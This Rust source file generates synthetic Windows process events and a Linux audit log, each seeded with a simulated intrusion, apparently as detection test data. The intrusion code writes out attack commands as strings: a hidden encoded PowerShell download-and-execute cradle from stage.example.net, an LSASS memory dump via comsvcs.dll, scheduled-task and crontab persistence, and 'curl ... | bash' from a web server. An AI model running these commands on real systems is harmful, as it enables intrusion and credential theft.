//! Processes of a day: Windows Security events of three hosts, and the audit log of a Linux web server. Each has an intrusion in it.

use super::{Dice, clock, encoded_command};
use anyhow::Result;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::fmt::Write;

/// Events by time, in the order in which they were added.
#[derive(Default)]
struct Day<T>(BTreeMap<(u64, usize), T>);

impl<T> Day<T> {
    fn add(&mut self, second: u64, event: T) {
        let number = self.0.len();
        self.0.insert((second, number), event);
    }
}

/// A Windows host and the ids that it gave to processes.
struct Windows<'d> {
    host: &'static str,
    next: u64,
    day: &'d mut Day<Value>,
}

impl Windows<'_> {
    /// A start (4688); the id of the new process.
    fn start(&mut self, second: u64, parent: (u64, &str), user: &str, image: &str, command: &str) -> u64 {
        // Windows gives ids in steps of four, and gives them again.
        self.next = 0x400 + (self.next - 0x400 + 4 * (1 + self.next % 7)) % 0x3c00;
        let id = self.next;
        self.day.add(second, json!({
            "TimeCreated": clock(second), "Channel": "Security", "EventID": 4688, "Computer": self.host, "SubjectUserName": user,
            "SubjectLogonId": "0x3e7", "NewProcessId": format!("0x{id:x}"), "NewProcessName": image, "ProcessId": format!("0x{:x}", parent.0),
            "ParentProcessName": parent.1, "CommandLine": command,
        }));
        id
    }

    /// An end (4689).
    fn end(&mut self, second: u64, id: u64, image: &str) {
        self.day.add(second, json!({
            "TimeCreated": clock(second), "Channel": "Security", "EventID": 4689, "Computer": self.host, "ProcessId": format!("0x{id:x}"),
            "ProcessName": image, "Status": "0x0",
        }));
    }
}

const SYSTEM32: &str = "C:\\Windows\\System32\\";
const EXPLORER: &str = "C:\\Windows\\explorer.exe";

/// Security 4688 and 4689, one event a line.
pub(super) fn processes() -> Result<String> {
    let mut dice = Dice(4688);
    let mut day = Day::default();
    for (host, user) in [("ws-03", "carol"), ("ws-05", "erin"), ("srv-files", "svc_backup")] {
        let mut windows = Windows { host, next: 0x400, day: &mut day };
        let services = (0x2a8, "C:\\Windows\\System32\\services.exe");
        let boot = 5 + dice.roll(40);
        let logon = windows.start(
            boot,
            (0x1f0, "C:\\Windows\\System32\\winlogon.exe"),
            "SYSTEM",
            &format!("{SYSTEM32}userinit.exe"),
            "userinit.exe",
        );
        let explorer = windows.start(boot + 2, (logon, "C:\\Windows\\System32\\userinit.exe"), user, EXPLORER, EXPLORER);
        windows.end(boot + 20, logon, &format!("{SYSTEM32}userinit.exe"));
        for _ in 0..70 {
            let second = boot + 60 + dice.roll(33_000);
            let (parent, image, command) = match dice.roll(6) {
                0 => (services, format!("{SYSTEM32}svchost.exe"), format!("{SYSTEM32}svchost.exe -k netsvcs -p -s Schedule")),
                1 => (services, format!("{SYSTEM32}taskhostw.exe"), "taskhostw.exe Install".to_owned()),
                2 => ((explorer, EXPLORER), "C:\\Program Files\\Browser\\browser.exe".to_owned(), "browser.exe --restore".to_owned()),
                3 => {
                    ((explorer, EXPLORER), "C:\\Program Files\\Office\\WINWORD.EXE".to_owned(), "WINWORD.EXE /n \"report.docx\"".to_owned())
                }
                4 => (services, "C:\\Program Files\\Backup Agent\\agent.exe".to_owned(), format!("agent.exe --job {}", dice.hex(8))),
                _ => ((explorer, EXPLORER), format!("{SYSTEM32}notepad.exe"), "notepad.exe todo.txt".to_owned()),
            };
            let id = windows.start(second, parent, user, &image, &command);
            if dice.roll(3) > 0 {
                windows.end(second + 1 + dice.roll(900), id, &image);
            }
        }
        if host == "ws-03" {
            intrusion(&mut windows, 17_120, explorer);
        }
    }
    let mut text = String::new();
    for event in day.0.values() {
        writeln!(text, "{event}")?;
    }
    Ok(text)
}

/// A document starts a shell, which looks around, takes credentials and stays.
fn intrusion(windows: &mut Windows<'_>, second: u64, explorer: u64) {
    let word = "C:\\Program Files\\Office\\WINWORD.EXE";
    let cmd = format!("{SYSTEM32}cmd.exe");
    let powershell = format!("{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe");
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://stage.example.net/a.ps1')";
    let document = windows.start(second, (explorer, EXPLORER), "carol", word, "WINWORD.EXE /n \"invoice 4711.docm\"");
    let shell = windows.start(second + 9, (document, word), "carol", &cmd, "cmd.exe /c start /min powershell");
    let command = format!("powershell.exe -nop -w hidden -enc {}", encoded_command(script));
    let stager = windows.start(second + 10, (shell, &cmd), "carol", &powershell, &command);
    windows.end(second + 11, shell, &cmd);
    for (after, image, command) in [
        (40, "whoami.exe", "whoami /all"),
        (52, "net.exe", "net group \"Domain Admins\" /domain"),
        (75, "nltest.exe", "nltest /domain_trusts"),
        (140, "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full"),
        (200, "schtasks.exe", "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon"),
    ] {
        let image = format!("{SYSTEM32}{image}");
        let id = windows.start(second + after, (stager, &powershell), "carol", &image, command);
        windows.end(second + after + 1, id, &image);
    }
}

/// The audit log of a host.
struct Audit<'d> {
    serial: u64,
    day: &'d mut Day<String>,
}

/// Who a program of the audit log runs as.
struct Subject {
    pid: u64,
    ppid: u64,
    auid: u64,
    uid: u64,
}

/// 2026-11-20 07:00:00 UTC.
const MORNING: u64 = 1_795_158_000;

impl Audit<'_> {
    fn record(&mut self, second: u64, milli: u64, kind: &str, body: &str) {
        let line = format!("type={kind} msg=audit({}.{milli:03}:{}): {body}", MORNING + second, self.serial);
        self.day.add(second, line);
    }

    /// The records of a program's start.
    fn execve(&mut self, second: u64, subject: &Subject, exe: &str, arguments: &[&str]) {
        self.serial += 1;
        let milli = self.serial * 37 % 1000;
        let Subject { pid, ppid, auid, uid } = subject;
        let comm = exe.rsplit('/').next().unwrap_or_default();
        self.record(second, milli, "SYSCALL", &format!(
            "arch=c000003e syscall=59 success=yes exit=0 a0=0 a1=0 a2=0 a3=0 items=2 ppid={ppid} pid={pid} auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} \
             fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=(none) ses=4294967295 comm=\"{comm}\" exe=\"{exe}\" key=\"exec\""
        ));
        let mut execve = format!("argc={}", arguments.len());
        for (index, argument) in arguments.iter().enumerate() {
            // The kernel writes what holds blanks or quotes in hexadecimal.
            let plain = argument.bytes().all(|byte| byte.is_ascii_graphic() && byte != b'"');
            let text = if plain { format!("\"{argument}\"") } else { argument.bytes().map(|byte| format!("{byte:02X}")).collect() };
            execve.push_str(&format!(" a{index}={text}"));
        }
        self.record(second, milli, "EXECVE", &execve);
        self.record(second, milli, "CWD", "cwd=\"/\"");
        self.record(
            second,
            milli,
            "PATH",
            &format!("item=0 name=\"{exe}\" inode={} dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL", 4000 + pid),
        );
        self.record(second, milli, "EOE", "");
    }

    /// A login, or an attempt.
    fn login(&mut self, second: u64, pid: u64, account: &str, address: &str, result: &str) {
        self.serial += 1;
        self.record(second, self.serial * 37 % 1000, "USER_LOGIN", &format!(
            "pid={pid} uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"{account}\" exe=\"/usr/sbin/sshd\" hostname=? addr={address} terminal=ssh res={result}'"
        ));
    }
}

const UNSET: u64 = 4_294_967_295;

/// The audit log of a web server whose application server is made to fetch and run a script.
pub(super) fn audit() -> Result<String> {
    let mut dice = Dice(59);
    let mut day = Day::default();
    let mut audit = Audit { serial: 700, day: &mut day };
    for _ in 0..60 {
        let (second, pid) = (dice.roll(32_000), 2_000 + dice.roll(20_000));
        match dice.roll(4) {
            0 => {
                audit.execve(second, &Subject { pid, ppid: 890, auid: 0, uid: 0 }, "/usr/bin/run-parts", &["run-parts", "/etc/cron.hourly"])
            }
            1 => audit.execve(
                second,
                &Subject { pid, ppid: 1310, auid: 1000, uid: 1000 },
                "/usr/bin/git",
                &["git", "-C", "/srv/app dir", "status"],
            ),
            2 => audit.login(second, pid, "deploy", &format!("192.0.2.{}", 10 + dice.roll(9)), "success"),
            _ => audit.execve(second, &Subject { pid, ppid: 1310, auid: 1000, uid: 1000 }, "/usr/bin/ls", &["ls", "-la", "/srv"]),
        }
    }
    let tomcat = |pid, ppid| Subject { pid, ppid, auid: UNSET, uid: 998 };
    audit.execve(
        30,
        &Subject { pid: 1402, ppid: 1, auid: UNSET, uid: 998 },
        "/usr/lib/jvm/java-17/bin/java",
        &["java", "-jar", "shop.jar"],
    );
    let fetch = "curl -s http://stage.example.net/x.sh | bash";
    audit.execve(19_000, &tomcat(30_011, 1402), "/usr/bin/dash", &["/bin/sh", "-c", fetch]);
    audit.execve(19_000, &tomcat(30_012, 30_011), "/usr/bin/curl", &["curl", "-s", "http://stage.example.net/x.sh"]);
    audit.execve(19_000, &tomcat(30_013, 30_011), "/usr/bin/bash", &["bash"]);
    audit.execve(19_002, &tomcat(30_015, 30_013), "/usr/bin/id", &["id"]);
    audit.execve(19_004, &tomcat(30_017, 30_013), "/usr/bin/cat", &["cat", "/etc/passwd"]);
    let implant = "echo '* * * * * /tmp/.cache/k' | crontab -";
    audit.execve(19_011, &tomcat(30_020, 30_013), "/usr/bin/bash", &["bash", "-c", implant]);
    audit.execve(19_012, &tomcat(30_022, 30_020), "/usr/bin/crontab", &["crontab", "-"]);
    for attempt in 0..12 {
        audit.login(20_400 + 3 * attempt, 31_000 + attempt, "root", "203.0.113.66", "failed");
    }
    Ok(day.0.values().fold(String::new(), |mut text, line| {
        text.push_str(line.trim_end());
        text.push('\n');
        text
    }))
}
